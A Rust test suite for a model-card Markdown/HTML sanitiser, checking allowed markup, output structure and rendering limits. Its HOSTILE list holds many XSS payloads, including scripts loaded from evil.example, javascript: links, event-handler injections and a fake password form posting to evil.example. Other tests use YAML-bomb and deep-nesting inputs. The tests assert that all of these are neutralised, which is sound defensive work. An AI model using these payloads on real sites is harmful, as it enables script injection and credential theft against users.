use proptest::prelude::*;

use super::*;

fn links() -> CardLinks {
    CardLinks { pages: "/team/mini/-/blob/v1/".to_owned(), bytes: "/team/mini/-/raw/v1/".to_owned() }
}

fn html(text: &str) -> String {
    render_card(text, &links(), &|| false).unwrap()
}

#[test]
fn allowed_markup_is_kept() {
    let check = |text: &str, expect: &str| {
        let html = html(text);
        assert!(html.contains(expect), "{text}\n{html}\nlacks {expect}");
    };
    check("# Title", "<h2");
    check("###### Title", "<h6");
    check("# Title", "id=\"user-content-title\"");
    check("[up](#title)", "href=\"#user-content-title\"");
    check("| a | b |\n| - | - |\n| 1 | 2 |", "<td>1</td>");
    check("> [!WARNING]\n> Hot", "markdown-alert-warning");
    check("- [x] done", "type=\"checkbox\"");
    check("a[^1]\n\n[^1]: note", "note");
    check("[config](config.json)", "href=\"/team/mini/-/blob/v1/config.json\"");
    check("[deep](./a/../docs/x%20y.md#part)", "href=\"/team/mini/-/blob/v1/docs/x%20y.md\"");
    check("![chart](img/chart.png)", "src=\"/team/mini/-/raw/v1/img/chart.png\"");
    check(
        "<p align=\"center\"><img src=\"logo.png\" width=\"40\"></p>",
        "src=\"/team/mini/-/raw/v1/logo.png\"",
    );
    check("<details><summary>More</summary>text</details>", "<summary>More</summary>");
    check("https://example.com", "rel=\"nofollow noopener noreferrer\"");
    check("```text\nprint(1)\n```", "<code>print(1)");
    check(
        "```python\nprint(1)\n```",
        "<pre tabindex=\"0\"><code><span class=\"hl-name\">print</span>(<span class=\"hl-constant\">1</span>)\n</code></pre>",
    );
    check("```{.sh}\n$A\n```", "<code>$A\n</code>");
    check("~~~sh title=\"x\"\n$A\n~~~", "<span class=\"hl-name\">$A</span>");
    check("    if x", "<code>if x\n</code>");
    check("For $x$.", "<p>For <math><mrow><mi>x</mi></mrow></math>.</p>");
    check("For $`x`$.", "<p>For <math><mrow><mi>x</mi></mrow></math>.</p>");
    check("$$x$$", "<math display=\"block\"><mrow><mi>x</mi></mrow></math>");
    check("```math\nx\n```", "<p><span class=\"math\" tabindex=\"0\"><math display=\"block\">");
    check("```math\n\\x\n```", "<code>\\x\n</code>");
    check("For $\\unknown{a_b_c}$ & `$x$`.", "<p>For $\\unknown{a_b_c}$ &amp; <code>$x$</code>.</p>");
    check("$5 and $10, $5-$10, US$5, \\$x\\$", "<p>$5 and $10, $5-$10, US$5, $x$</p>");
    check("Unclosed $x + y and $$z", "<p>Unclosed $x + y and $$z</p>");
    check("\\[not math\\]", "<p>[not math]</p>");
    check("# The $x$ value", "<h2 id=\"user-content-the--value\">The <math>");
    check("![of $x$](a.png)", "alt=\"of $x$\"");
    check("---\nlicense: mit\n---\n\nBody", "<p>Body</p>");
}

/// Cards that try to run something, to load something, to look like the page, or to take it apart.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.png\">",
    "![pixel](https://evil.example/pixel.png)",
    "![pixel](//evil.example/pixel.png)",
    "![pixel](\\\\evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "<picture><source srcset=\"https://evil.example/a.png\"><img src=\"a.png\"></picture>",
    "<img srcset=\"https://evil.example/a.png 2x\" src=\"a.png\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style=\"position:fixed;inset:0;background:url(https://evil.example/x)\">x</p>",
    "<form action=\"https://evil.example\"><input name=password type=password><button>Sign in</button></form>",
    "<form action=\"/logout\" method=post><input type=submit></form>",
    "<input type=\"image\" src=\"https://evil.example/x\" formaction=\"//evil.example\">",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"//evil.example/x\">",
    "<video src=\"//evil.example/x.mp4\" autoplay></video><audio src=//evil.example/x></audio>",
    "<div id=\"results\" class=\"top copy\">x</div>",
    "<a id=find name=find href=#>x</a>",
    "<h1 id=content>x</h1>",
    "<!-- --><img src=x onerror=alert(1)> -->",
    "<table><tr><td><table><tr><td><table><tr><td>x</table></table></table></main></body></html><h1>out",
    "</main></body></html>",
    "<plaintext>rest",
    "<xmp><script>alert(1)</script></xmp>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<title>x</title><textarea><script>alert(1)</script></textarea>",
    "<button data-copy=\"x\" onclick=\"alert(1)\">x</button><select data-submit><option>x</select>",
    "<template><script>alert(1)</script></template>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[up](../../../../v2/secret) [abs](/\\evil.example)",
    "`` ` <script>alert(1)</script> ` ``",
    "```html\n<script>alert(1)</script>\n```",
    "<a href=\"https://example.com\" target=\"_top\" ping=\"//evil.example\">x</a>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "\u{0}<scr\u{0}ipt>alert(1)</script>",
    "<span class=\"hl-keyword\">x</span><mtd class=\"math-left\">x</mtd><span class=\"math\">x</span>",
    "<math><mi href=\"https://evil.example\" style=\"position:fixed\">x</mi></math>",
    "<div title=\"\n\n```python\n\" onmouseover=alert(1) x=\"\n1 + 1\n```\n\n\">x</div>",
    "<p align=\"$x$\" id=\"$\\text{\" onmouseover=alert(1)}$\">x</p>",
    "<xmp>\n\n```sh\n</xmp><script>alert(1)</script> 1\n```\n",
];

#[test]
fn hostile_cards_do_nothing() {
    for card in HOSTILE {
        let html = html(card).to_lowercase();
        // What is inside text or code is escaped; an element is what remains unescaped.
        for element in [
            "<script",
            "<style",
            "<svg",
            "<math",
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<button",
            "<base",
            "<meta",
            "<link",
            "<video",
            "<audio",
            "<textarea",
            "<title",
            "<template",
            "<select",
            "<noscript",
            "<plaintext",
            "<xmp",
            "<main",
            "</main",
            "</body",
            "<body",
            "<html",
        ] {
            assert!(!html.contains(element), "{card}\n{html}");
        }
        let parsed = elements(&html);
        for (element, attributes) in &parsed {
            for (name, value) in attributes {
                assert!(!name.starts_with("on") && !name.starts_with("data-"), "{card}\n{html}");
                assert!(
                    !["style", "srcdoc", "formaction", "action", "target", "ping", "name", "cite"]
                        .contains(&&name[..]),
                    "{card}\n{html}"
                );
                match (&element[..], &name[..]) {
                    ("img" | "source", "src" | "srcset") => {
                        assert!(value.starts_with("/team/mini/-/raw/v1/"), "{card}\n{html}")
                    }
                    ("a", "href") => {
                        let is_web =
                            ["http://", "https://", "mailto:"].iter().any(|begin| value.starts_with(begin));
                        let is_file = value.starts_with("/team/mini/-/blob/v1/") && !value.contains("/../");
                        assert!(is_web || is_file || value.starts_with("#user-content-"), "{card}\n{html}");
                    }
                    (_, "id") => assert!(value.starts_with("user-content-"), "{card}\n{html}"),
                    ("input", "type") => assert_eq!(value, "checkbox", "{card}"),
                    (_, "class") => {
                        // The classes of code are the server's.
                        let is_known = value.starts_with("markdown-alert") || value.starts_with("hl-");
                        assert!(value.is_empty() || is_known, "{card}\n{html}");
                        assert!(!value.starts_with("hl-") || card.contains("```"), "{card}\n{html}");
                    }
                    (_, "src" | "href" | "srcset") => panic!("{card}\n{html}"),
                    _ => {}
                }
            }
            if element == "input" {
                assert!(attributes.iter().any(|(name, _)| name == "disabled"), "{card}\n{html}");
            }
        }
    }
}

/// A card, out of pieces that matter to Markdown, HTML and TeX.
fn card() -> impl Strategy<Value = String> {
    const PIECES: [&str; 44] = [
        "$",
        "$$",
        "`",
        "```",
        "```python\n",
        "```math\n",
        "\n",
        "\n\n",
        "~~~json\n",
        "<div title=\"",
        "<p id='",
        "\">",
        "<span class=\"hl-keyword\">",
        "</span>",
        "<math>",
        "<pre>",
        "<xmp>",
        "<table><tr><td>",
        "</table>",
        "<script>",
        "\\frac",
        "\\text{",
        "\\operatorname{",
        "\\begin{array}{c|c}",
        "\\end{array}",
        "&",
        "\\\\",
        "{",
        "}",
        "^",
        "_",
        "\\not",
        "\\left(",
        "\\right)",
        "\\hspace{-9em}",
        "\\color{red}",
        "![",
        "](a.png)",
        "# ",
        "> ",
        "| a |\n| - |\n",
        "if \"x\" 1 # y",
        "/*",
        "é",
    ];
    let piece = prop_oneof![
        6 => proptest::sample::select(&PIECES[..]).prop_map(str::to_owned),
        1 => any::<char>().prop_map(String::from),
        1 => "[ -~]{0,8}",
    ];
    proptest::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

/// Elements that a card may have.
const ELEMENTS: &str = "a abbr acronym article aside b bdi bdo blockquote br caption center cite code col colgroup data dd \
    del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img input ins kbd li mark \
    nav ol p picture pre q rp rt rtc ruby s samp section small source span strike strong sub summary sup table tbody \
    td tfoot th thead time tr tt u ul var wbr";
const ATTRIBUTES: &str =
    "align alt aria-label checked class disabled href id rel src start tabindex title type";
/// Elements that the server writes.
const MATH: &str = "math mfrac mi mn mo mover mroot mrow mspace msqrt msub msubsup msup mtable mtd mtext mtr munder \
    munderover";
const MATH_ATTRIBUTES: &str = "class depth display displaystyle form height largeop linethickness lspace mathvariant \
    maxsize minsize movablelimits rspace scriptlevel stretchy symmetric width";
const CLASSES: &str =
    "hl-comment hl-constant hl-keyword hl-name hl-string math math-left math-line math-right math-rule";
const VOID: &str = "br col hr img input source wbr";

fn is_among(words: &str, word: &str) -> bool {
    words.split_ascii_whitespace().any(|known| known == word)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn every_card_becomes_known_elements(card in card()) {
        let html = html(&card);
        prop_assert!(html.len() < 64 * card.len() + 1024);
        for (element, attributes) in elements(&html) {
            let is_math = is_among(MATH, &element);
            prop_assert!(is_math || is_among(ELEMENTS, &element), "{} {}", element, html);
            for (name, value) in attributes {
                let known = if is_math { MATH_ATTRIBUTES } else { ATTRIBUTES };
                prop_assert!(is_among(known, &name), "{} {}", name, html);
                let is_plain = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || ".- ".contains(c);
                prop_assert!(!is_math || value.chars().all(is_plain), "{}", html);
                let mut classes = value.split_ascii_whitespace();
                prop_assert!(name != "class" || classes.all(|class| is_among(CLASSES, class)), "{}", html);
            }
        }
        // Each element ends where it began.
        let mut open = Vec::new();
        for part in html.split('<').skip(1) {
            let end = part.strip_prefix('/');
            let name: String = end.unwrap_or(part).chars().take_while(char::is_ascii_alphanumeric).collect();
            if end.is_some() {
                prop_assert_eq!(open.pop(), Some(name), "{}", html);
            } else if !is_among(VOID, &name) {
                open.push(name);
            }
        }
        prop_assert!(open.is_empty(), "{}", html);
    }
}

#[test]
fn limits_are_for_the_whole_card() {
    let size = MAX_CARD_BYTES as usize;
    for (unit, most) in [
        ("```py\n1,1,1,1,1,1,1,1,1,1,1,1\n```\n", 5 * size),
        ("$\\frac{a}{b}$ ", 3 * size),
        ("```py\n1\n```\n$x$\n", 6 * size),
    ] {
        let html = html(&unit.repeat(size / unit.len()));
        assert!(html.contains("class=\"hl-") || html.contains("<math"), "{unit}");
        assert!(html.len() < most, "{unit} {}", html.len());
    }
    let code = format!("```py\n{}\n```\n", "1,".repeat(size / 2 - 16));
    assert!(html(&code).len() < 4 * size);
}

/// The elements of sanitised HTML: their names and attributes. Its quotes and brackets are escaped, so that this
/// suffices.
fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    for part in html.split('<').skip(1).filter(|part| part.starts_with(|c: char| c.is_ascii_alphabetic())) {
        let name: String = part.chars().take_while(char::is_ascii_alphanumeric).collect();
        let mut rest = &part[name.len()..];
        let mut attributes = Vec::new();
        while let Some((key, after)) = rest.split_once("=\"") {
            if key.contains('>') {
                break;
            }
            let (value, left) = after.split_once('"').unwrap_or_default();
            attributes.push((key.trim().to_owned(), value.replace("&amp;", "&")));
            rest = left;
        }
        found.push((name, attributes));
    }
    found
}

#[test]
fn large_cards_are_rendered_in_bounded_time() {
    let size = 32 * 1024;
    for unit in [
        "[",
        "(",
        "*",
        "_a",
        "> ",
        "`",
        "![",
        "<",
        "|a",
        "- ",
        "&",
        "[a](",
        "<p>",
        "~~",
        "[^1]",
        "#\n",
        "\\",
        "$a$ ",
        "$",
        "$$",
        "$`",
        "$\\frac{a}{b}$",
        "$${",
        "```py\n1,\n```\n",
        "```math\nx\n```\n",
        "\\hat",
    ] {
        let card = unit.repeat(size / unit.len());
        // A deadline would depend on the machine: superlinear work here would take minutes.
        assert!(html(&card).len() < 64 * size, "{unit}");
    }
}

#[test]
fn deep_cards_are_shown_as_text() {
    for unit in ["> ", "<div>", "<b>", "<blockquote><table><tr><td>"] {
        let html = html(&unit.repeat(5000));
        assert!(html.contains("nested too deeply") && html.ends_with("</pre>"), "{unit}");
        assert!(!html.contains("<div>") && !html.contains("<b>"), "{unit}");
    }
    assert!(html(&"> ".repeat(50)).contains("<blockquote>"));
    assert!(html(&"<p>a".repeat(1000)).contains("<p>a"));
}

/// The parser compares each attribute with all before it, which would take minutes here.
#[test]
fn tags_with_many_attributes_are_shown_as_text() {
    let names: String = (0..100_000).map(|n| format!("a{n} ")).collect();
    for card in [format!("<div {names}>"), format!("<p>\n<b {names}>x</b>"), format!("<div>\n</div {names}>")]
    {
        let html = html(&card);
        assert!(html.contains("too many attributes") && html.ends_with("</pre>"), "{}", &card[..20]);
    }
    let some: String = (0..64).map(|n| format!(" a{n}='x > y <z'")).collect();
    assert!(html(&format!("<div{some}>x</div>")).contains("<div>x</div>"));
    assert!(html(&format!("<div id=b{some}>x</div>")).contains("too many attributes"));
}

#[test]
fn rendering_ends_when_the_time_is_over() {
    let calls = std::cell::Cell::new(0);
    let is_late = || calls.replace(calls.get() + 1) == 3;
    assert_eq!(render_card(&"<br>x\n".repeat(10_000), &links(), &is_late), None);
    assert_eq!(calls.get(), 4);
}

#[test]
fn front_matter_is_read_leniently() {
    let check = |text: &str, expect: FrontMatter| {
        let (yaml, _) = split_front_matter(text);
        assert_eq!(FrontMatter::parse(yaml.unwrap_or_default()), expect, "{text}");
    };
    let some = |text: &str| Some(text.to_owned());
    let list = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect::<Vec<_>>();
    let full = FrontMatter {
        title: some("Mini"),
        license: some("apache-2.0"),
        task: some("text-generation"),
        library: some("transformers"),
        languages: list(&["en", "no"]),
        tags: list(&["chat", "7"]),
        datasets: list(&["c4"]),
        base_models: list(&["org/base"]),
    };
    let text = "---\nmodel_name: Mini\nlicense: apache-2.0\npipeline_tag: text-generation\nlibrary_name: transformers\nlanguage:\n- en\n- no\ntags: [chat, 7]\ndatasets: c4\nbase_model: org/base\nunknown: {a: [1]}\n---\nBody";
    check(text, full.clone());
    check(&text.replace('\n', "\r\n"), full.clone());
    check(&format!("\u{feff}{text}"), full.clone());
    // A wrong type loses one value.
    check(
        "---\nlicense: {a: b}\ntags: chat\n---\n",
        FrontMatter { tags: list(&["chat"]), ..FrontMatter::default() },
    );
    check(
        "---\nlicense: other\nlicense_name: mine\n---\n",
        FrontMatter { license: some("mine"), ..FrontMatter::default() },
    );
    check("---\nlicense: [mit, x]\n---\n", FrontMatter { license: some("mit"), ..FrontMatter::default() });
    for nothing in [
        "",
        "---\n",
        "---\nlicense: mit\n",
        "text\n---\nlicense: mit\n---\n",
        "---\n[\n---\n",
        "---\n: : :\n---\n",
    ] {
        check(nothing, FrontMatter::default());
    }
}

#[test]
fn front_matter_bombs_state_nothing() {
    let laughs = (1..9).fold("a0: &a0 [x,x,x,x,x,x,x,x,x]\n".to_owned(), |text, n| {
        let last = n - 1;
        format!("{text}a{n}: &a{n} [{}]\n", vec![format!("*a{last}"); 9].join(","))
    });
    for bomb in [laughs, "[".repeat(60_000), "a: ".repeat(20_000), "- ".repeat(30_000), "x".repeat(100_000)] {
        assert_eq!(FrontMatter::parse(&bomb), FrontMatter::default());
    }
}

#[test]
fn the_first_paragraph_describes_a_model() {
    let check =
        |text: &str, expect: Option<&str>| assert_eq!(summary_line(text).as_deref(), expect, "{text}");
    check(
        "---\nlicense: mit\n---\n# Mini\n\nA **small** model for\n[tests](x).\n\nMore.",
        Some("A small model for tests."),
    );
    check("# Only a title", None);
    check("Of $x^2$ parts.", Some("Of x^2 parts."));
    check("![badge](https://example.com/b.svg)\n\nA description follows.", Some("A description follows."));
    check("", None);
    let long = summary_line(&"word ".repeat(200)).unwrap();
    assert!(long.ends_with('…') && long.chars().count() < 250, "{long}");
}
